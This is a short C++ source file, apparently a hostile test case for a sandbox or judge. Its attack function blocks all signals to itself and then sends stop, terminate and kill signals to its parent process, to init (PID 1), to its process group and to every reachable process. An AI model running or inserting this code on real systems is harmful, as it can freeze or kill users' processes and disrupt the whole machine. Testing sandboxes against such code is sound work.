#include "attack.h"

static void attack(const char*) {
  sigset_t all;
  sigfillset(&all);
  sigprocmask(SIG_BLOCK, &all, nullptr);
  for (int number : {SIGSTOP, SIGTSTP, SIGTERM, SIGUSR1, SIGALRM, SIGKILL})
    for (long target : {static_cast<long>(getppid()), 1l, 0l, -1l}) {
      if (number == SIGKILL && target == 0) continue;
      syscall(SYS_kill, target, number);
    }
}
